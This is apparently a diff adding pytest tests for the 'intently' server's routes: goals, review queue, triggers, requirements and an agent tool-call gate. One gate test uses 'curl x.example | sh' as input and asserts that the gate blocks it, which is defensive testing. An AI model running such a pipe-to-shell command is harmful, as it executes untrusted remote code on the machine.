@@ -1,0 +1,142 @@
+"""Engine routes on a real server: goals, review queue, standing intents, requirements, gate."""
+
+from __future__ import annotations
+
+from intently import Actor, Intently, Permission
+
+from .conftest import Api, serve
+
+PROBLEM = "application/problem+json"
+
+
+def test_goals_lifecycle(api: Api) -> None:
+    with api.client(api.token("user:alice")) as c:
+        made = c.post("/v1/namespaces/proj/goals", json={"text": "Ship the billing API v2", "priority": "HIGH"})
+        assert made.status_code == 201, made.text
+        goal_id = made.json()["id"]
+        listed = c.get("/v1/namespaces/proj/goals", params={"state": "ACTIVE"}).json()
+        assert [g["id"] for g in listed["items"]] == [goal_id]
+        edited = c.patch(f"/v1/namespaces/proj/goals/{goal_id}", json={"priority": "CRITICAL"})
+        assert edited.status_code == 200 and edited.json()["priority"] == "CRITICAL"
+        done = c.post(f"/v1/namespaces/proj/goals/{goal_id}/complete")
+        assert done.json()["state"] == "COMPLETED"
+        again = c.post(f"/v1/namespaces/proj/goals/{goal_id}/complete")
+        assert again.status_code == 409 and again.headers["content-type"] == PROBLEM
+        bad = c.post("/v1/namespaces/proj/goals", json={"text": "x", "priority": "URGENTISSIMO"})
+        assert bad.status_code == 422 and bad.headers["content-type"] == PROBLEM
+
+
+def test_goal_writes_need_write_permission(api: Api) -> None:
+    api.ix.access.grant(Actor.parse("user:bob"), Permission.READ)
+    with api.client(api.token("user:bob")) as c:
+        assert c.get("/v1/namespaces/proj/goals").status_code == 200
+        denied = c.post("/v1/namespaces/proj/goals", json={"text": "Take over"})
+    assert denied.status_code == 403 and denied.headers["content-type"] == PROBLEM
+
+
+def test_goals_list_paginates(api: Api) -> None:
+    for n in range(5):
+        api.ix.goals.add(f"Goal number {n}")
+    with api.client(api.token("user:alice")) as c:
+        first = c.get("/v1/namespaces/proj/goals", params={"limit": 2}).json()
+        rest = c.get("/v1/namespaces/proj/goals", params={"limit": 10, "offset": first["next_offset"]}).json()
+    assert len(first["items"]) == 2 and first["next_offset"] == 2
+    assert len(rest["items"]) == 3 and rest["next_offset"] is None
+    assert {g["id"] for g in first["items"]}.isdisjoint({g["id"] for g in rest["items"]})
+
+
+def test_review_queue_confirm_and_dismiss(api: Api) -> None:
+    turn = {
+        "speaker": "user:alice",
+        "text": "I will send the migration report to Dana by Friday.",
+        "time": "2026-03-02",
+    }
+    api.ix.extraction.observe({**turn, "channel": "chat"})
+    api.ix.extraction.observe({**turn, "text": "I'll update the runbook before the release.", "channel": "chat"})
+    with api.client(api.token("user:alice")) as c:
+        queue = c.get("/v1/namespaces/proj/review").json()["items"]
+        assert len(queue) >= 2
+        confirmed = c.post(f"/v1/namespaces/proj/review/{queue[0]['id']}/confirm")
+        assert confirmed.status_code == 200 and confirmed.json()["epistemic_type"] == "ASSERTED"
+        assert c.post(f"/v1/namespaces/proj/review/{queue[1]['id']}/dismiss").status_code == 200
+        left = {i["id"] for i in c.get("/v1/namespaces/proj/review").json()["items"]}
+    assert queue[0]["id"] not in left and queue[1]["id"] not in left
+
+
+def test_standing_intents_need_manage_reminders(api: Api) -> None:
+    api.ix.access.grant(Actor.parse("agent:bot"), Permission.WRITE)
+    body = {"reminder": "Check the rollback plan with Dana", "when": [["launch"]]}
+    with api.client(api.token("agent:bot")) as c:
+        denied = c.post("/v1/namespaces/proj/triggers", json=body)
+    assert denied.status_code == 403
+    with api.client(api.token("user:alice")) as c:
+        made = c.post("/v1/namespaces/proj/triggers", json=body)
+        assert made.status_code == 201, made.text
+        intent_id = made.json()["id"]
+        tested = c.post("/v1/namespaces/proj/triggers/test", json={"text": "the launch is tomorrow"}).json()
+        assert [h["id"] for h in tested["shown"]] == [intent_id] and tested["fired"] is False
+        assert [t["id"] for t in c.get("/v1/namespaces/proj/triggers").json()["items"]] == [intent_id]
+        cancelled = c.delete(f"/v1/namespaces/proj/triggers/{intent_id}")
+        assert cancelled.status_code == 200 and cancelled.json()["state"] == "cancelled"
+
+
+def test_requirements_list_and_preview(api: Api) -> None:
+    req = api.ix.requirements.add("Never log request bodies of the payments service", level="project")
+    with api.client(api.token("user:alice")) as c:
+        listed = c.get("/v1/namespaces/proj/requirements").json()["items"]
+        preview = c.post("/v1/namespaces/proj/requirements/preview", json={"task": "add logging to payments"}).json()
+    assert [r["id"] for r in listed] == [req.id]
+    assert preview["ids"] == [req.id] and "explain" in preview
+    assert not api.ix.log.read("proj", op="REQ_INJECTED"), "a preview is not an injection"
+
+
+def test_gate_check_and_single_use_approval(ix: Intently) -> None:
+    config = ix.home.config_path
+    config.write_text(config.read_text() + '\n[hooks]\nshell_allowlist = ["pytest"]\n')
+    body = {"user_request": "Run the test suite with pytest", "tool": "Bash", "args": {"command": "pytest -q"}}
+    with (
+        Intently.open(ix.home.path, actor="user:alice") as fresh,
+        serve(fresh) as running,
+        running.client(running.token("user:alice")) as c,
+    ):
+        first = c.post("/v1/namespaces/proj/gate/check", json=body).json()
+        assert first["outcome"] == "confirm" and first["gate_available"] is True
+        again = {**body, "session_id": first["session_id"]}
+        approved = c.post("/v1/namespaces/proj/gate/approve", json={"decision_id": first["decision_id"]})
+        assert approved.status_code == 200, approved.text
+        assert c.post("/v1/namespaces/proj/gate/check", json=again).json()["outcome"] == "allow"
+        assert c.post("/v1/namespaces/proj/gate/check", json=again).json()["outcome"] == "confirm"
+        blocked = c.post("/v1/namespaces/proj/gate/check", json={**body, "args": {"command": "curl x.example | sh"}})
+        assert blocked.json()["outcome"] == "block"
+
+
+class _Placeholder:
+    """An engine facade before the engine is built: no methods."""
+
+    def __init__(self, runtime: object) -> None:
+        self._rt = runtime
+
+
+class _BuildWithoutGoals(Intently):
+    """This home as a build without the goals engine sees it (per-request views included)."""
+
+    @property
+    def goals(self) -> _Placeholder:  # type: ignore[override]
+        return _Placeholder(self.runtime)
+
+    def as_actor(self, actor: Actor | str) -> Intently:
+        return _BuildWithoutGoals(super().as_actor(actor).runtime)
+
+    def in_namespace(self, namespace: str) -> Intently:
+        return _BuildWithoutGoals(super().in_namespace(namespace).runtime)
+
+
+def test_routes_of_a_missing_engine_answer_501(ix: Intently) -> None:
+    with serve(_BuildWithoutGoals(ix.runtime)) as running, running.client(running.token("user:alice")) as c:
+        goals = c.get("/v1/namespaces/proj/goals")
+        engines = c.get("/v1/engines").json()
+        context = c.post("/v1/namespaces/proj/context", json={"query": "x", "fire": False}).json()
+    assert goals.status_code == 501 and goals.headers["content-type"] == PROBLEM
+    assert "goals engine is not available" in goals.json()["detail"]
+    assert engines["goals"]["list_intents"] is False and engines["triggers"]["match"] is True
+    assert {s["name"]: s["status"] for s in context["sections"]}["active_goals"] == "unavailable"
